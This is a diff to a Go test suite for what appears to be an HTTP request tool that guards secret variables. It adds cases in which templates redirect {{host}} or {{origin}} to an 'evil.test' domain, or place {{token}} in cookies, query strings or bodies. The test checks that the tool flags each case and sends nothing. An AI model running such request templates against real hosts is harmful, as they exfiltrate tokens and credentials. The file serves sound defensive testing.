@@ -415,6 +415,24 @@ func TestThreatEditorSettings(t *testing.T) {
 		"GET {{base}}/a":                                                                              "",
 		"GET /a\nHost: {{host}}":                                                                      "",
 		"GET {{base}}/{{token}}":                                                                      "path",
+		"@token = {{token}}\nGET https://example.com/{{token}}":                                       "path",
+		"@token = x{{token}}\nGET https://example.com/{{token}}":                                      "path",
+		"@host = {{host}}\nGET https://{{host}}/":                                                     "",
+		"@host = {{host}}.evil.test\nGET https://{{host}}/":                                           "url",
+		"@host = https://{{host}}.evil.test\nGET /a":                                                  "url",
+		"@host = {{host}}@evil.test\nGET https://{{host}}/":                                           "header:Authorization",
+		"@origin = {{origin}}.evil.test\nGET {{origin}}/":                                             "url",
+		"GET /a\nHost: {{origin}}":                                                                    "",
+		"GET /a\nHost: {{origin}}.evil.test":                                                          "url",
+		"GET /a\nHost: https://{{host}}.evil.test":                                                    "url",
+		"GET https://example.com/\nCookie: a=1\nCookie: b={{token}}":                                  "header:Cookie",
+		"curl https://example.com/ -b 'a={{token}}' -b b=1":                                           "header:Cookie",
+		"curl https://example.com/ --data-urlencode 'a={{token}}'":                                    "body",
+		"curl https://example.com/ --data-urlencode '{{token}}=a'":                                    "body",
+		"curl -G https://example.com/ -d 'a={{token}}'":                                               "query",
+		"curl -G https://example.com/ --data-urlencode '{{token}}'":                                   "query",
+		"curl -G https://example.com/?a#b -d '{{token}}'":                                             "query",
+		"curl -G {{origin}} --data-raw '@evil.test/'":                                                 "",
 	} {
 		w := newWorld(t)
 		if err := writeFile(filepath.Join(w.dir, "vars.txt"), "a{{token}}"); err != nil {
@@ -438,7 +456,8 @@ func TestThreatEditorSettings(t *testing.T) {
 			}
 			continue
 		}
-		if err == nil || len(w.asked) != 1 || w.asked[0].Items[0].In != in || len(server.requests()) > 0 {
+		if err == nil || len(w.asked) != 1 || w.asked[0].Items[0].In != in || len(server.requests()) > 0 ||
+			strings.Contains(w.asked[0].Items[0].Reference, "of the environment") {
 			t.Errorf("%s: %v, asked %+v, want %s, %d requests", src, err, w.asked, in, len(server.requests()))
 		}
 	}
